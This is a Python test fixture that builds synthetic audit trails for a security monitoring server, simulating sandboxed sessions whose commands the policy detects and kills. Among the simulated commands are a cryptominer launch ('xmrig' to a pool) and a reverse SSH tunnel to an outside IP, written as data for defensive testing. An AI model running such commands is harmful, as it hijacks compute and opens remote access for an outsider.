"""Audit trails for the server's tests, written through the audit trail's own API (the
same writer sessions use), so the server reads real SQLite logs with real chains."""

from __future__ import annotations

import os
from pathlib import Path

from bastion import Action, Event, EventKind, Policy, Severity, Verdict
from bastion.audit import AuditTrail, TrailConfig

POLICY = Policy.default()


def _ev(run: str, episode: str, session: str, kind: EventKind, step: int | None = None,
        pid: int | None = None, ppid: int | None = None, **fields: object) -> Event:
    return Event(kind, session_id=session, run_id=run, episode_id=episode, step=step,
                 call_id=None if step is None else f"c{step}", pid=pid, ppid=ppid,
                 fields=fields)


def verdict(run: str, episode: str, session: str, step: int, rule: str, severity: Severity,
            categories: tuple[str, ...], action: Action = Action.KILL) -> Verdict:
    return Verdict(rule, severity, f"{rule} seen at step {step}", action=action,
                   categories=categories, policy_hash=POLICY.hash, session_id=session,
                   run_id=run, episode_id=episode, step=step, call_id=f"c{step}", pid=4242)


def action(run: str, episode: str, session: str, step: int) -> Event:
    """A kill action event of call ``c<step>``."""
    return _ev(run, episode, session, EventKind.ACTION, step,
               **{"action.name": "kill", "action.target": "pid 4242",
                  "action.rule": "x.burst", "action.ok": True})


def write_episode(trail: AuditTrail, run: str, episode: str, session: str, *,
                  steps: int = 4, close: bool = True, live_dir: Path | None = None) -> None:
    """One session of an episode: created, ``steps`` calls (step 2 mines and is killed,
    step 3 opens a reverse tunnel and is killed), connections, DNS, closing.

    ``live_dir``: the state directory whose ``sessions/<id>`` marks the session as
    still running (what a real session keeps while it lives)."""
    if live_dir is not None:
        (live_dir / "sessions" / session).mkdir(parents=True, exist_ok=True)
    trail.append_policy(POLICY, episode_id=episode)
    trail.append_event(_ev(run, episode, session, EventKind.LIFECYCLE,
                           **{"life.state": "created", "policy": POLICY.name,
                              "policy_hash": POLICY.hash}))
    for step in range(steps):
        cmd = ["ls -la", "pip install requests", "nohup ./xmrig -o pool:3333 &",
               "ssh -R 9000:localhost:22 203.0.113.5"][step % 4]
        e = _ev
        trail.append_event(e(run, episode, session, EventKind.LIFECYCLE, step,
                             **{"life.state": "call_start", "cmd.raw": cmd}))
        trail.append_event(e(run, episode, session, EventKind.COMMAND, step, **{"cmd.raw": cmd}))
        trail.append_event(e(run, episode, session, EventKind.EXEC, step, 100 + step, 1,
                             **{"proc.name": "bash", "proc.cmdline": f"bash -c {cmd}"}))
        deny = step % 4 >= 2
        trail.append_event(e(run, episode, session, EventKind.NET_CONNECT, step, 100 + step,
                             **{"net.dst_ip": "203.0.113.5",
                                "net.dst_port": 3333 if step % 4 == 2 else 443,
                                "net.app": "stratum" if step % 4 == 2 else "tls",
                                "net.decision": "deny" if deny else "allow"}))
        if not deny:
            trail.append_event(e(run, episode, session, EventKind.NET_CLOSE, step, 100 + step,
                                 **{"net.decision": "allow", "net.bytes_out": 100 * (step + 1),
                                    "net.bytes_in": 1000 * (step + 1)}))
        trail.append_event(e(run, episode, session, EventKind.DNS_QUERY, step, 100 + step,
                             **{"dns.name": "pool.example.com", "dns.type": "A",
                                "dns.decision": "deny" if deny else "allow",
                                "dns.rcode": "NXDOMAIN" if deny else "NOERROR"}))
        if step % 4 == 2:
            trail.append_verdict(verdict(run, episode, session, step, "mining.stratum",
                                         Severity.CRITICAL, ("mining",)))
        if step % 4 == 3:
            trail.append_verdict(verdict(run, episode, session, step, "tunnels.ssh_reverse",
                                         Severity.HIGH, ("tunnel", "exfiltration")))
        if deny:
            trail.append_event(e(run, episode, session, EventKind.ACTION, step,
                                 **{"action.name": "kill", "action.target": "pid 4242",
                                    "action.rule": "mining.stratum", "action.ok": True}))
        trail.append_event(e(run, episode, session, EventKind.LIFECYCLE, step,
                             **{"life.state": "call_end", "outcome": "killed" if deny else "ok",
                                "proc.exit_code": -9 if deny else 0}))
    trail.append_event(_ev(run, episode, session, EventKind.TELEMETRY,
                           **{"telemetry.sensor": "proc", "telemetry.reason": "test",
                              "telemetry.loss": True}))
    if close:
        trail.append_event(_ev(run, episode, session, EventKind.LIFECYCLE,
                               **{"life.state": "closing"}))
    trail.flush()


def open_test_trail(state_dir: Path, run: str, *, durable: bool = True) -> AuditTrail:
    """``durable=False``: appends return once queued and one ``flush`` makes the batch
    durable (one fsync instead of one per record; what sessions do)."""
    return AuditTrail(state_dir, run, config=TrailConfig(checkpoint_interval=3600,
                                                         durable_appends=durable))


def build_two_runs(state_dir: Path) -> None:
    """run-a: ep-1 (closed), ep-2 (live); run-b: ep-9 (closed)."""
    os.makedirs(state_dir / "sessions", exist_ok=True)
    with open_test_trail(state_dir, "run-a", durable=False) as trail:
        write_episode(trail, "run-a", "ep-1", "s-1")
        write_episode(trail, "run-a", "ep-2", "s-2", close=False, live_dir=state_dir)
    with open_test_trail(state_dir, "run-b", durable=False) as trail:
        write_episode(trail, "run-b", "ep-9", "s-9", steps=3)
